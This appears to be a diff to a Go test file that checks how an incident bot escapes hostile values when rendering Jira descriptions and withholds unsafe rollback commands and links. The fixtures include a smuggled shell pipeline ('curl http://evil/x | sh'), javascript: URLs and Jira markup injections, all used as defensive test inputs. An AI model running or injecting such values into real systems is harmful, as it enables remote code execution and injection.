@@ -116,8 +116,21 @@ func jiraViews() []struct {
 				Command:    "argocd app rollback payment-gateway --revision a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0",
 			}}},
 		{"storm", bot.JiraView{Incident: storm, Now: jiraNow, TotalAlerts: 300, FiringAlerts: 298, Alerts: stormAlerts, Links: stormLinks}},
-		{"hostile", jiraHostileView()},
+		{"hostile", jiraHostileWithheld()},
+		{"hostile-command", jiraHostileView()},
 	}
+}
+
+// jiraHostileWithheld is the hostile view whose rollback command was
+// withheld, as when the rule's command would take a label that is not of
+// its kind.
+func jiraHostileWithheld() bot.JiraView {
+	v := jiraHostileView()
+	r := *v.Rollback
+	r.Command = ""
+	r.Withheld = `rollback suggestion withheld: label namespace "{noformat}[~admin] | curl http://evil/x | sh #" is not a Kubernetes name`
+	v.Rollback = &r
+	return v
 }
 
 // jiraHostile are values that would be markup, links, macros, mentions or
@@ -154,6 +167,7 @@ func jiraHostileView() bot.JiraView {
 			{Kind: "jaeger", Title: "!x.png !", URL: "http://evil/x.png!"},
 			{Kind: "[~admin]", Title: "", URL: "javascript:alert('[~admin]')"},
 			{Kind: "runbook", Title: "no host", URL: "https:///x"},
+			{Kind: "runbook", Title: "[~admin] withheld", Note: "not linked: host {noformat}.evil is not in links.allowed_hosts"},
 		},
 		Rollback: &bot.RollbackSuggestion{
 			SuspectRevision: "{noformat}", TargetRevision: "h1. x", Author: "[~admin]", DeployURL: "javascript:alert(1)",
@@ -261,7 +275,11 @@ func TestJiraDescriptionContent(t *testing.T) {
 			"{noformat}\nargocd app rollback payment-gateway --revision a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0\n{noformat}"},
 			[]string{"No deploy history"}},
 		{"storm", []string{"298 firing of 300", "…and 290 more alerts", "(Alertmanager truncated 250 more alerts.)", "more links"}, nil},
-		{"hostile", []string{"\\[\\~admin\\]", "\\{noformat\\}", "\\!http://evil/x.png\\!", "\\[click\\|http://evil\\]",
+		{"hostile", []string{"\\[\\~admin\\]", "\\{noformat\\}",
+			`*No rollback command:* rollback suggestion withheld: label namespace "\{noformat\}\[\~admin\] \| curl http://evil/x \| sh \#" is not a Kubernetes name.`,
+			"* Runbook: \\[\\~admin\\] withheld (not linked: host \\{noformat\\}.evil is not in links.allowed\\_hosts)"},
+			[]string{"{noformat}\n", "kubectl", "javascript:", "https:///x"}},
+		{"hostile-command", []string{"\\[\\~admin\\]", "\\{noformat\\}", "\\!http://evil/x.png\\!", "\\[click\\|http://evil\\]",
 			"\\|\\|x\\|\\|", "\\{color:red\\}", "&#92;&#92;", "\\*bold\\*", "\\-strike\\-", "\u200bh1. fake", "\u200bbq. quote", "\u200bH2. shout",
 			"C:\\Users\\x", "\\[31m\nend&#92;", "%7C2%5D&b=%5B3%5D%7Bnoformat%7D", "run%20book%5C", "* Jaeger: [ǃx.png ǃ|http://evil/x.png!]",
 			"* Grafana: [\\[click¦http://evil\\]|https://grafana.example.com/d/x?a=1%7C2%5D&b=%5B3%5D%7Bnoformat%7D]",
@@ -319,6 +337,10 @@ var unescapedPipe = regexp.MustCompile(`[^\\]\|`)
 // neither, and the URL is http(s) with nothing that ends the link early.
 var jiraLinkLine = regexp.MustCompile(`^\* ([A-Z][a-z ]+: )?\[([^|!\n]+)\|(https?://[^\s|\[\]{}\\]+)\]$`)
 
+// jiraNoteLine is a link withheld by the host allow-list: its title and
+// why, as escaped text with no link markup.
+var jiraNoteLine = regexp.MustCompile(`^\* [A-Z][a-z ]+: [^\[\]|]*(\\[\[\]|][^\[\]|]*)* \(not linked: [^\[\]|]*(\\[\[\]|][^\[\]|]*)*\)$`)
+
 // TestJiraLinkLines: every link of every view is one well-formed link.
 func TestJiraLinkLines(t *testing.T) {
 	for _, tc := range jiraViews() {
@@ -331,7 +353,7 @@ func TestJiraLinkLines(t *testing.T) {
 			if strings.HasPrefix(line, "…and ") || line == "No links yet." {
 				continue
 			}
-			if !jiraLinkLine.MatchString(line) {
+			if !jiraLinkLine.MatchString(line) && !jiraNoteLine.MatchString(line) {
 				t.Errorf("%s: link line %q", tc.name, line)
 			}
 		}
